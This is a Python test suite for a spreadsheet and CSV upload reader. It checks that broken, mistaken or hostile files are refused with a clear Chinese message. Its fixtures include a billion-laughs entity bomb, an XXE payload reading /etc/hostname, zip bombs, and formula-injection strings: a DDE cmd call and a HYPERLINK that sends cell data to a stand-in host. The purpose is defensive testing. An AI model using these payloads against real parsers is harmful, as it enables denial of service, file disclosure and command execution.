"""Files made to break the reader, and what people upload by mistake: always one clear sentence that says what to do."""

import io
import re
import tracemalloc
import zipfile

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from apps.core.refusal import Refusal
from apps.sheets.bounds import BOUNDS, Bounds
from apps.sheets.lines import Line, Odd
from tests.sheets.files import MAIN, patched, read, sheet_xml, with_sheet, with_texts, xlsx

CHINESE = re.compile("[一-龥]")
GOOD = xlsx(*[["张三", "420599199001010012", "租户"]] * 40)
OLE = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(600)
TITLES = "".join(f'<c t="inlineStr"><is><t>{title}</t></is></c>' for title in "甲乙丙")
HEAD = f'<row r="1">{TITLES}</row>'
BILLION = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "lol">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
    + "]>"
)


def refused(content: bytes, bounds: Bounds = BOUNDS) -> str:
    with pytest.raises(Refusal) as refusal:
        read(content, bounds)
    assert refusal.value.field == "file"
    return refusal.value.message


def zipped(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, part in parts.items():
            archive.writestr(name, part)
    return out.getvalue()


def encrypted(content: bytes) -> bytes:
    """The flag of a password in every member's head."""
    told = bytearray(content)
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = -1
        while (start := told.find(mark, start + 1)) >= 0:
            told[start + at] |= 1
    return bytes(told)


def open_document() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr("content.xml", "<x/>")
    return out.getvalue()


MISTAKES = {
    "空文件": (b"", "文件是空的"),
    "旧格式": (OLE, "不支持旧的 .xls 格式"),
    "加密": (OLE + "EncryptedPackage".encode("utf-16-le"), "取消密码"),
    "压缩加密": (encrypted(GOOD), "取消密码"),
    "宏": (patched(GOOD, {"xl/vbaProject.bin": b"x"}), "含有宏"),
    "二进制": (patched(GOOD, {"xl/workbook.bin": b"x"}), "不支持 .xlsb"),
    "开放文档": (open_document(), "不支持 .ods"),
    "文档": (zipped({"word/document.xml": b"<x/>"}), "不是 Excel 工作簿"),
    "截断": (GOOD[: len(GOOD) // 2], "没有传完整"),
    "少尾": (GOOD[:-30], "没有传完整"),
    "无工作表": (patched(GOOD, {"xl/worksheets/sheet1.xml": None}), "没有可读取的工作表"),
    "网页": (b"<html><table><tr><td>1</td></tr></table></html>", "网页或 XML"),
    "图片": (b"\x89PNG\r\n\x1a\n\x00\x00\x00", "不是表格文件"),
    "乱码": (b"\xff\x00\xff\x80,\x81\n", "不是表格文件"),
    "编码": ("姓名,号码\n".encode("gb18030") + b"\xff\xff\xff,1\n", "不能识别文件的编码"),
    "引号": (b"name,no\n" + b'"x,1\n' * 40_000, "引号没有成对"),
    "无内容": (xlsx(heading=[]), "没有内容"),
    "千列": (xlsx(["x"] * 1000, heading=[f"列{n}" for n in range(1000)]), "超过 200 列"),
    "千列文本": ((",".join(["x"] * 1000) + "\n").encode(), "超过 200 列"),
    "坏压缩": (GOOD.replace(b"xl/worksheets/sheet1.xml", b"xl/worksheets/sheet1.xml" + bytes(9), 1), "损坏"),
    "坏结构": (patched(GOOD, {"xl/workbook.xml": b"<workbook"}), "损坏"),
    "坏行": (with_sheet(sheet_xml(HEAD + '<row r="3"/><row r="2"><c><v>1</v></c></row>')), "损坏"),
    "坏行号": (with_sheet(sheet_xml(HEAD + '<row r="x"><c><v>1</v></c></row>')), "损坏"),
    "半截": (with_sheet(sheet_xml(HEAD)[:-30]), "损坏"),
}


@pytest.mark.parametrize("name", MISTAKES)
def test_what_is_no_readable_sheet_is_refused_with_what_to_do(name: str) -> None:
    content, said = MISTAKES[name]

    assert said in refused(content)


def test_entities_are_never_expanded() -> None:
    inline = '<c t="inlineStr"><is><t>&j;</t></is></c>'
    xml = BILLION + f'<worksheet xmlns="{MAIN}"><sheetData>{HEAD}<row r="2">{inline}</row></sheetData></worksheet>'

    assert "损坏" in refused(with_sheet(xml))
    assert "损坏" in refused(with_texts(BILLION + f'<sst xmlns="{MAIN}"><si><t>&j;</t></si></sst>', HEAD))
    for part in ("xl/workbook.xml", "xl/styles.xml"):
        assert "损坏" in refused(patched(GOOD, {part: (BILLION + "<sst>&j;</sst>").encode()}))


def test_a_file_of_the_machine_cannot_be_read_through_an_entity() -> None:
    outside = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]>'
    inline = '<c t="inlineStr"><is><t>&e;</t></is></c>'

    assert "损坏" in refused(with_sheet(outside + sheet_xml(f'<row r="1">{inline}{inline}</row>')))


def bomb(xml_head: str, piece: str, times: int, xml_tail: str) -> bytes:
    return with_sheet(xml_head + piece * times + xml_tail)


HUGE = {
    # 30 MB of blanks pack to 30 kB.
    "密": bomb(sheet_xml(HEAD)[:-12], " " * 1000, 30_000, "</worksheet>"),
    "一格": bomb(
        sheet_xml("")[: -len("</sheetData></worksheet>")] + HEAD + '<row r="2"><c t="inlineStr"><is><t>',
        "长" * 900 + "短",
        1000,
        "</t></is></c></row></sheetData></worksheet>",
    ),
    "一行": bomb(
        f'<worksheet xmlns="{MAIN}"><sheetData>{HEAD}<row r="2">', "<c/>", 600_000, "</row></sheetData></worksheet>"
    ),
    "一层": bomb(f'<worksheet xmlns="{MAIN}"><sheetData>{HEAD}<row r="2">', "<c>", 1_000_000, ""),
    "共享": with_texts(f'<sst xmlns="{MAIN}"><si><t>{"长" * 1_000_000}</t></si></sst>', HEAD),
    "样式": patched(GOOD, {"xl/styles.xml": b"<styleSheet>" + b"<x/>" * 2_000_000 + b"</styleSheet>"}),
}


@pytest.mark.parametrize("name", HUGE)
def test_what_would_unpack_to_too_much_is_refused_before_it_costs_memory(name: str) -> None:
    tracemalloc.start()
    try:
        assert "解压后过大" in refused(HUGE[name])
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()

    assert peak < 200 * 1024 * 1024


def test_sums_and_counts_of_members_are_bounded() -> None:
    assert "解压后过大" in refused(GOOD, Bounds(unpacked=10_000))
    assert "解压后过大" in refused(GOOD, Bounds(members=5))
    assert "解压后过大" in refused(GOOD, Bounds(directory=200))
    assert "文件过大（最大 0 MB）" in refused(GOOD, Bounds(file=1000))


def test_a_member_that_claims_less_than_it_holds_is_damaged() -> None:
    told = bytearray(with_sheet(sheet_xml(HEAD + '<row r="2"><c><v>1</v></c></row>' * 1)))
    with zipfile.ZipFile(io.BytesIO(bytes(told))) as archive:
        size = archive.getinfo("xl/worksheets/sheet1.xml").file_size
    changed = bytes(told).replace(size.to_bytes(4, "little"), (40).to_bytes(4, "little"))

    assert "损坏" in refused(changed)


def test_rows_without_end_are_refused() -> None:
    content = with_sheet(sheet_xml(HEAD + "<row/>" * 3000))

    assert "损坏" in refused(content, Bounds(positions=2000))


def test_a_million_merges_cost_nothing() -> None:
    merges = "".join(f'<mergeCell ref="A{n}:B{n}"/>' for n in range(2, 40_000))

    assert len(read(with_sheet(sheet_xml(HEAD, f"<mergeCells>{merges}</mergeCells>")))[2]) == 1000


def test_formulas_are_never_values() -> None:
    formulas = ['=HYPERLINK("http://x/?"&A1)', "=cmd|'/c calc'!A1"]

    _, lines, _ = read(xlsx(formulas))

    assert lines[0].odd == {0: Odd.FORMULA, 1: Odd.FORMULA}


def clear_answer_or_rows(content: bytes) -> None:
    answer = asked(content)
    if isinstance(answer, Refusal):
        assert (answer.field, bool(CHINESE.search(answer.message))) == ("file", True)
        return
    for line in answer:
        assert all(cell == cell.strip() and len(cell) <= 2000 for cell in line.cells)
        assert set(line.odd) <= set(range(len(line.cells)))


def asked(content: bytes) -> Refusal | list[Line]:
    try:
        return read(content, Bounds(rows=1000))[1]
    except Refusal as refusal:
        return refusal


@settings(max_examples=200, deadline=None)
@given(at=st.integers(0, len(GOOD) - 1), piece=st.binary(min_size=1, max_size=40))
def test_an_xlsx_with_any_bytes_changed_gives_rows_or_a_clear_answer(at: int, piece: bytes) -> None:
    clear_answer_or_rows(GOOD[:at] + piece + GOOD[at + len(piece) :])


@settings(max_examples=60, deadline=None)
@given(length=st.integers(4, len(GOOD) - 1))
def test_an_xlsx_cut_anywhere_gives_a_clear_answer(length: int) -> None:
    with pytest.raises(Refusal):
        read(GOOD[:length])


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=400))
def test_any_bytes_give_rows_or_a_clear_answer(content: bytes) -> None:
    clear_answer_or_rows(content)


def spaced(piece: str) -> str:
    return piece.replace("_", " ")


PIECES = """<row> <row_r='5'> </row> <c> <c_t='s'> <c_t='b'> <c_t='d'> <c_r='ZZZ9'> <c_s='1'> <c_s='-7'> </c> <v> </v>
<f> </f> <f/> <is> </is> <t> </t> 1e999 nan -1 7 张三 1990-01-01 </sheetData> <mergeCells> <mergeCell_ref='A1:B2'/>
<mergeCell_ref='?'/> </mergeCells>"""
XML_PIECES = st.sampled_from([*map(spaced, re.split(r"\s", PIECES))])


@settings(max_examples=300, deadline=None)
@given(st.lists(XML_PIECES, max_size=30))
def test_any_sheet_xml_gives_rows_or_a_clear_answer(pieces: list[str]) -> None:
    clear_answer_or_rows(with_sheet(sheet_xml(HEAD + "".join(pieces))))


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet='甲a1",;\t\r\n=\x00\ufeff', max_size=60), st.sampled_from(["utf-8", "gb18030", "utf-16"]))
def test_any_csv_text_gives_rows_or_a_clear_answer(text: str, encoding: str) -> None:
    clear_answer_or_rows(text.encode(encoding))
